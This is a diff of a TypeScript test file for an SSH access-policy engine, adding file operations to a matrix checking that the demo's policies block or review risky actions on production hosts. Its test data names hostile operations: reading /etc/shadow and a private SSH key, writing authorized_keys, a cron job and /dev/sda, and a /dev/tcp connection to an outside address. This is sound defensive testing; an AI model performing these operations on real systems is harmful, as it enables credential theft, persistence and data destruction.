@@ -1,5 +1,6 @@
 import { readFileSync, writeFileSync } from "node:fs";
 import { describe, expect, it } from "vitest";
+import { describeFile, type FileUse } from "../protocols/ssh/facts/describe-file.ts";
 import { describeShell } from "../protocols/ssh/facts/describe.ts";
 import { compilePolicies, decide, mayOpen } from "./policies.ts";
 import { actorOf, hostOf, nowhere } from "./testing.ts";
@@ -41,6 +42,27 @@ const commands = [
   "exec 3<>/dev/tcp/203.0.113.7/443",
   "scp backup.tar host.example:",
 ];
+const files: FileUse[] = [
+  { file: "list", path: "/root/.ssh" },
+  { file: "download", path: "/var/log/shop/app.log", binary: false },
+  { file: "download", path: "/srv/shop/logo.png", binary: true },
+  { file: "download", path: "/root/.ssh/id_ed25519", binary: false },
+  { file: "download", path: "/etc/shadow", binary: true },
+  { file: "download", path: "/proc/4711/mem", binary: true },
+  { file: "upload", path: "/srv/shop/flag", bytes: 12, replaces: false },
+  { file: "upload", path: "/srv/shop/app.conf", bytes: 12, replaces: true },
+  { file: "upload", path: "/root/.ssh/authorized_keys", bytes: 80, replaces: true },
+  { file: "upload", path: "/etc/cron.d/job", bytes: 80, replaces: false },
+  { file: "upload", path: "/dev/sda", bytes: 80, replaces: true },
+];
+/** What each is called in the matrix, and its facts. */
+const asked = [
+  ...commands.map((text) => ({ text, facts: describeShell(text).facts })),
+  ...files.map((use) => ({
+    text: `${use.file} ${use.path}${use.file === "download" && use.binary ? " as bytes" : ""}`,
+    facts: describeFile(use),
+  })),
+];
 const actors = [
   actorOf("human", ["engineers"], "engineer"),
   actorOf("workload", ["agents"], "agent"),
@@ -51,10 +73,11 @@ const actors = [
   actorOf("human", [], "in no group"),
 ];
 const targets = ["prod", "staging", "test"].map(hostOf);
-const decided = (command: string, actor: (typeof actors)[number], target: (typeof targets)[number]) => {
-  const { facts } = describeShell(command);
-  return decide(policies, { actor, target, facts, dataClasses: [], ...nowhere });
-};
+const decided = (
+  { facts }: (typeof asked)[number],
+  actor: (typeof actors)[number],
+  target: (typeof targets)[number],
+) => decide(policies, { actor, target, facts, dataClasses: [], ...nowhere });
 
 function matrix(): string {
   const lines = [
@@ -66,9 +89,9 @@ function matrix(): string {
     for (const target of targets) {
       const may = mayOpen(policies, { actor, target }).allowed ? "may open" : "may not open";
       lines.push("", `## ${actor.name} on env=${target.tags["env"]}: ${may}`, "");
-      for (const command of commands) {
+      for (const command of asked) {
         const { effect, policies: by } = decided(command, actor, target);
-        lines.push(`- ${effect.padEnd(6)} \`${command}\` (${by.join(", ") || "no policy"})`);
+        lines.push(`- ${effect.padEnd(6)} \`${command.text}\` (${by.join(", ") || "no policy"})`);
       }
     }
   return `${lines.join("\n")}\n`;
@@ -83,11 +106,12 @@ describe("the demo's policies, on hosts,", () => {
 
   it("let nobody change production without a review, and nobody run what nobody has read", () => {
     for (const actor of actors)
-      for (const command of commands) {
-        const { writes, effects } = describeShell(command).facts;
+      for (const command of asked) {
+        const { text, facts } = command;
         const effect = decided(command, actor, hostOf("prod")).effect;
-        if (writes) expect([command, effect]).not.toEqual([command, "allow"]);
-        if (effects.includes("download-and-run")) expect([command, effect]).toEqual([command, "block"]);
+        if (facts.writes) expect([text, effect]).not.toEqual([text, "allow"]);
+        if (facts.actions.includes("file.binary")) expect([text, effect]).not.toEqual([text, "allow"]);
+        if (facts.effects.includes("download-and-run")) expect([text, effect]).toEqual([text, "block"]);
       }
   });
 });
